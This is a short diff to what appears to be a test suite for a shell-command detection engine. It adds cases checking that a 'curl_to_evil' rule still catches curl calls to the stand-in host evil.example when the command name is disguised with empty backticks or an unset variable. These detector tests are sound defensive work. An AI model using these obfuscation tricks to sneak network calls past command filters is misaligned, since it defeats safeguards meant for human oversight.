@@ -222,6 +222,8 @@ def test_words_the_shell_builds_are_still_read():
     assert _rules(eng, "h=evil.example; curl https://$h/x") == ["curl_to_evil"]            # a variable
     assert _rules(eng, "curl https://`echo evil.example`/x") == ["curl_to_evil"]            # backticks
     assert _rules(eng, "curl https://$(echo evil.example)/x") == ["curl_to_evil"]           # substitution
+    assert _rules(eng, "c`:`url https://evil.example/x") == ["curl_to_evil"]                 # glued, printing nothing
+    assert _rules(eng, "cu${x}rl https://evil.example/x") == ["curl_to_evil"]                # an unset variable
 
 
 def test_a_repeated_text_is_judged_once_and_the_verdict_reused():
